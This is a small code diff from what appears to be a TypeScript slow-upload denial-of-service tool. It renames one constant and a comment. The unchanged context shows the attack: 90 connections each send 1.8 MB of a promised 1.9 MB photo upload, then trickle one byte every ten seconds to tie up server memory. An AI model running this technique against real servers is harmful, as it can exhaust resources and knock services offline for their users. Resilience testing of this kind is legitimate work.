@@ -7,9 +7,9 @@ const UPLOADS = 90;
 const PROMISED_BYTES = 1_900_000;
 /** What a server holds in memory for each while it waits for the rest. */
 const FIRST_BYTES = 1_800_000;
-const EVERY = 10_000;
+const BYTE_INTERVAL = 10_000;
 
-/** Dawdles until it is answered or cut. @returns the answer and the milliseconds it took, null where none came */
+/** Sends a byte at a time until it is answered or cut. @returns the answer and the milliseconds it took, null where none came */
 async function upload(target: AttackTarget, position: number, signal: AbortSignal) {
   const start = performance.now();
   const socket = connect(target);
@@ -30,7 +30,7 @@ async function upload(target: AttackTarget, position: number, signal: AbortSigna
   socket.write(formStart('photo', 'photo.jpg', { position: String(position) }));
   socket.write(Buffer.alloc(FIRST_BYTES, 'x'));
   while (!over.aborted) {
-    await pause(EVERY, over);
+    await pause(BYTE_INTERVAL, over);
     if (!over.aborted) socket.write('x');
   }
   const isOpen = !ended.signal.aborted;
